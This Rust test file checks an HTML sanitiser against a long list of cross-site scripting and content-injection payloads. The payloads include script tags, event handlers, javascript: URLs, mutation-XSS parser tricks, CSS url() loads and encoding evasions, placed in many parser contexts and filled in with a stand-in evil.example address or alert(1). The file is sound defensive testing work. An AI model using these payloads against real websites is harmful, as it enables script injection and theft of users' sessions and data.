//! Attacks in HTML: in any context, nothing runs, loads without the user's request, or leaves the article. The result is checked tag by tag
//! and attribute by attribute. Every parser reads it as written, since it is well-formed and sanitising it again changes nothing.

use gleaner_content::{plain_text, sanitise};

/// Ways to run a script, load something or change the page around. `!` is replaced by an address or a script.
#[rustfmt::skip]
const ATTEMPTS: &[&str] = &[
    "<script>!</script>", "<script src='!'>", "<ScRiPt\n>!</sCrIpT >", "<script/x>!</script>", "<<script>!//<</script>", "<scr<script>ipt>!</script>",
    "<img src=x onerror='!'>", "<img src=x:x onerror=!//>", "<img/src/onerror=!>", "<img src='a' oNlOaD\n=\n'!'>", "<img \"\"\"><script>!</script>\">",
    "<body onload=!>", "<p onmouseover=!>x", "<details open ontoggle=!>", "<video onloadstart=! src=a></video>", "<a autofocus onfocus=! tabindex=1>x</a>",
    "<p style='animation-name:x' onanimationstart=!>", "<marquee onstart=!>x</marquee>", "<select autofocus onfocus=!>", "<p onpointerrawupdate=! on\u{0}click=!>x",
    "<a href='javascript:!'>x</a>", "<a href=' &#1;java&Tab;script&colon;!'>x</a>", "<a href='JaVa\nScRiPt:!'>x</a>", "<a href=\"\u{1}javascript:!\">x</a>",
    "<a href='vbscript:!'>x</a>", "<a href='data:text/html,!'>x</a>", "<a href='view-source:!'>x</a>", "<a href='blob:!'>x</a>", "<area href='javascript:!'>",
    "<form action='javascript:!'><button>x</button></form>", "<button formaction='!'>x</button>", "<input type=image src='!'>", "<isindex action='!'>",
    "<iframe src='javascript:!'></iframe>", "<iframe srcdoc='<script>!</script>'></iframe>", "<frameset><frame src='!'></frameset>", "<portal src='!'></portal>",
    "<fencedframe src='!'></fencedframe>", "<object data='javascript:!'></object>", "<object data='!'><param name=x value='!'></object>", "<embed src='javascript:!'>",
    "<applet code='!' archive='!'>x</applet>", "<embed code='!'>", "<object classid='!' codebase='!'>x</object>",
    "<svg onload=!>", "<svg><script>!</script></svg>", "<svg><a xlink:href='javascript:!'><text>x</text></a></svg>", "<svg><use href='!#x'/></svg>",
    "<svg><image href='!'/></svg>", "<svg><feImage href='!'/></svg>", "<svg><animate attributeName=href values='javascript:!'/></svg>", "<svg><set attributeName=onmouseover to='!'/></svg>",
    "<svg><foreignObject><iframe srcdoc='!'></iframe></foreignObject></svg>", "<svg><style>@import '!';</style></svg>", "<svg><![CDATA[><img src=x onerror=!>]]></svg>",
    "<svg><desc><![CDATA[</desc><script>!</script>]]></desc></svg>", "<svg></p><style><a id=\"</style><img src=1 onerror=!>\">", "<svg><title><![CDATA[</title><script>!</script>]]>",
    "<math href='javascript:!'><mi>x</mi></math>", "<math><mi xlink:href='javascript:!'>x</mi></math>", "<math><maction actiontype=statusline#! xlink:href='javascript:!'>x</maction></math>",
    "<math><annotation-xml encoding='text/html'><script>!</script></annotation-xml></math>", "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=!&gt;'>",
    "<math><mtext><mglyph><svg><mtext><textarea><path id=\"</textarea><img onerror=! src=1>\">", "<form><math><mtext></form><form><mglyph><style></math><img src onerror=!>",
    "<math><mi><style><!--</style><img src=x onerror=!>--></mi></math>", "<math><mglyph src='!'></math>", "<math><mtext><style><img src=x onerror=!></style></mtext></math>",
    "<noscript><p title=\"</noscript><img src=x onerror=!>\">", "<noembed><p title='</noembed><img src=x onerror=!>'>", "<noframes><p title='</noframes><img src=x onerror=!>'>",
    "<style><p title='</style><img src=x onerror=!>'>", "<title><p title='</title><img src=x onerror=!>'>", "<textarea><p title='</textarea><img src=x onerror=!>'>",
    "<xmp><p title='</xmp><img src=x onerror=!>'>", "<iframe><p title='</iframe><img src=x onerror=!>'>", "<plaintext><img src=x onerror=!>", "<listing>&lt;img onerror=!&gt;</listing>",
    "<template><script>!</script></template>", "<p><template shadowrootmode=open><script>!</script><slot></slot></template></p>", "<select><template><style><!--</style><a rel='--></style></template></select><img src onerror=!>'>",
    "<select><option><style></option></select><img src=x onerror=!></style>", "<table><td><form><input form=x formaction='!'>", "<table background='!'><td background='!'>x", "<body background='!'>",
    "<!--><img src=x onerror=!>-->", "<!---><img src=x onerror=!>-->", "<!--x--!><img src=x onerror=!>", "<!-- --!><script>!</script>-->", "<![CDATA[<img src=x onerror=!>]]>", "<?xml-stylesheet href='!'?>",
    "<!DOCTYPE x [<!ENTITY y SYSTEM '!'>]>&y;", "<comment><img src='</comment><img src=x onerror=!>'>", "<![if IE]><script>!</script><![endif]>", "</p/onclick=!><img src=x onerror=!>", "<% <img src=x onerror=!> %>",
    "<meta http-equiv=refresh content='0;url=!'>", "<meta http-equiv=Content-Security-Policy content='!'>", "<base href='!'>", "<base target=_top>", "<link rel=stylesheet href='!'>", "<link rel=prefetch href='!'>",
    "<link rel=preload as=image imagesrcset='!' href='!'>", "<link rel=dns-prefetch href='!'>", "<link rel=preconnect href='!'>", "<link rel=modulepreload href='!'>", "<link rel=manifest href='!'>", "<link rel=import href='!'>",
    "<a href=/x ping='!'>x</a>", "<a href=/x attributionsrc='!'>x</a>", "<img src=/x attributionsrc='!'>", "<html manifest='!'>", "<script type=speculationrules>{\"prefetch\":[{\"urls\":[\"!\"]}]}</script>",
    "<p style='background:url(!)'>x", "<p style='background:\\75rl(!)'>x", "<p style=\"list-style-image:image-set('!' 1x)\">x", "<p style='color:var(--x);--x:url(!)'>x", "<p style='@import \"!\"'>x", "<p style='width:expression(!)'>x",
    "<p style='-moz-binding:url(!)'>x", "<p style='behavior:url(!)'>x", "<p style='text-align:center;/*;x:url(!)*/'>x", "<p style='content:url(!);cursor:url(!),auto'>x", "<p style='position:fixed;inset:0;z-index:9'>x",
    "<style>@import url(!)</style>", "<style>p{background:url(!)}</style>", "<style>@font-face{font-family:x;src:url(!)}</style>", "<style><!--</style><img src=x onerror=!>-->", "<font face='!' style='src:url(!)'>x</font>",
    "<video poster='javascript:!'></video>", "<video><track default src='!'></video>", "<audio autoplay src='javascript:!'></audio>", "<video><source src='javascript:!'></video>", "<bgsound src='!'>", "<img dynsrc='!' lowsrc='!'>",
    "<img src='data:image/svg+xml,<svg onload=!>'>", "<img src='data:text/html,!'>", "<picture><source srcset='data:image/svg+xml,! 1x'></picture>", "<img srcset='javascript:! 1x'>", "<img longdesc='!' usemap='!' src=a>",
    "<layer src='!'></layer>", "<ilayer src='!'>", "<xml src='!' id=x></xml>", "<blink datasrc=#x>x</blink>", "<event-source src='!'>", "<menuitem icon='!'>", "<command icon='!'>", "<input list=x><datalist id=x><option label='!'>",
    "<p is=x-y popovertarget=z contenteditable>x", "<button popovertarget=x command=show-modal commandfor=x>x</button>", "<dialog open>x</dialog>", "<p slot=x part=y nonce=z itemref=w>x", "<p id=createElement name=cookie>x", "<form id=document><input name=body></form>",
    "<a id=location href='/x'>x</a>", "<img name=currentScript src=a>", "<iframe name=parent srcdoc=!></iframe>", "<p class='embed overlay' accesskey=x>x", "<a target=_top rel=opener href=/x>x</a>", "<a href=/x download='!'>x</a>",
    "<p title='\"><img src=x onerror=!>'>x", "<a href='/\"><img src=x onerror=!>'>x</a>", "<img alt='`><img src=x onerror=!>' src=a>", "<p lang='\"onclick=!'>x", "<code class='language-\"onclick=!'>x</code>", "<img src='/a\" onerror=\"!'>",
    "<x-part><script>!</script></x-part>", "\u{0}<\u{0}s\u{0}c\u{0}r\u{0}ipt>!</script>", "+ADw-script+AD4-!+ADw-/script+AD4-", "\u{2028}<script\u{2028}>!</script>", "<\u{ff1c}script>!", "%3Cscript%3E!%3C/script%3E", "<img src=x\u{c}onerror=!>",
];

/// Contexts of the attempts: each starts something that parsers treat specially.
#[rustfmt::skip]
const AROUND: &[&str] = &[
    "", "<p>", "<b><p>", "<table>", "<table><tr><td>", "<select>", "<select><option>", "<svg>", "<svg><desc>", "<svg><foreignObject>", "<svg><title>", "<math>", "<math><mi>", "<math><mtext>",
    "<math><annotation-xml encoding='text/html'>", "<math><annotation-xml>", "<template>", "<noscript>", "<noembed>", "<title>", "<textarea>", "<style>", "<xmp>", "<iframe>", "<form>", "<button>", "<ruby><rt>",
    "<pre>", "<a href=/x>", "<p title=\"", "<p title='", "<!--", "<![CDATA[", "<details><summary>", "<picture>", "<video>", "<object>", "<frameset>", "<caption>", "<colgroup>", "<h1>", "<dialog>", "<li>", "<nobr>",
    "<font>", "<svg><style>", "<math><style>", "<svg><p>", "</p>", "<plaintext>", "<body><html>", "<head>", "<table><svg><desc><td>", "<math><mi><table><mi>",
];

/// Fails if anything remains that is not known to be harmless.
fn check(html: &str) {
    let clean = sanitise(html, Some("https://blog.example/"));
    assert_eq!(sanitise(&clean, Some("https://blog.example/")), clean, "twice: {html}");
    for bad in [
        "script",
        "style",
        "svg",
        "iframe",
        "object",
        "embed",
        "form",
        "input",
        "button",
        "select",
        "textarea",
        "link",
        "meta",
        "base",
        "template",
        "title",
        "noscript",
        "frame",
        "frameset",
        "applet",
        "portal",
        "dialog",
        "slot",
        "track",
        "xmp",
        "plaintext",
        "noembed",
        "noframes",
        "mglyph",
        "annotation-xml",
        "maction",
    ] {
        let tag = format!("<{bad}");
        let at = clean.find(&tag).filter(|at| clean[at + tag.len()..].starts_with(['>', ' ', '/']));
        assert!(at.is_none(), "{html}\nleft {clean}");
    }
    for tag in tags(&clean) {
        for (name, value) in tag {
            let lower = value.trim_start().to_ascii_lowercase();
            assert!(!name.starts_with("on"), "{html}\nleft {clean}");
            match &*name {
                "href" | "cite" => assert!(
                    ["https://", "http://", "#u-", "mailto:"].iter().any(|start| lower.starts_with(start)),
                    "{html}\nleft {clean}"
                ),
                "src" | "poster" => assert!(
                    lower.starts_with("https://") || lower.starts_with("http://") || lower.starts_with("data:image/"),
                    "{html}\nleft {clean}"
                ),
                "id" => assert!(lower.starts_with("u-"), "{html}\nleft {clean}"),
                "style" => assert!(!lower.contains(['(', '\\', '@', '/']), "{html}\nleft {clean}"),
                "class" => assert!(lower == "embed" || lower.starts_with("language-"), "{html}\nleft {clean}"),
                "rel" | "alt" | "title" | "srcset" | "sizes" | "media" | "loading" | "decoding" | "referrerpolicy"
                | "open" | "controls" | "preload" | "width" | "height" | "type" | "lang" | "dir" => {}
                other => panic!("{other} of {html}\nleft {clean}"),
            }
        }
    }
    let text = plain_text(&clean);
    assert!(!text.contains("noopener") && !text.contains("no-referrer"), "{html}\nis {text}");
}

/// Returns the attributes of each tag in sanitised HTML: all values in double quotes, with `<`, `>` and `"` escaped.
fn tags(clean: &str) -> Vec<Vec<(String, String)>> {
    let mut all = Vec::new();
    for piece in clean.split('<').skip(1) {
        let Some((tag, text)) = piece.split_once('>') else { panic!("a tag without end: {clean}") };
        assert!(!text.contains('>'), "{clean}");
        let mut attributes = Vec::new();
        let mut rest = tag.trim_start_matches(|c: char| c.is_ascii_alphanumeric() || c == '/');
        while let Some((name, value)) = rest.trim_start().split_once("=\"") {
            let Some((value, after)) = value.split_once('"') else { panic!("a value without end: {clean}") };
            attributes.push((name.to_owned(), value.to_owned()));
            rest = after;
        }
        assert!(rest.trim().is_empty(), "{rest:?} in {clean}");
        all.push(attributes);
    }
    all
}

#[test]
fn rejects_attempts_in_every_context() {
    for attempt in ATTEMPTS {
        let attempt = attempt.replace('!', "https://evil.example/x");
        for around in AROUND {
            check(&format!("{around}{attempt}"));
        }
    }
}

#[test]
fn rejects_combined_attempts() {
    for (number, first) in ATTEMPTS.iter().enumerate() {
        let second = ATTEMPTS[(number * 31 + 7) % ATTEMPTS.len()];
        let third = ATTEMPTS[(number * 53 + 11) % ATTEMPTS.len()];
        check(&format!("{first}{second}{third}").replace('!', "alert(1)"));
    }
}
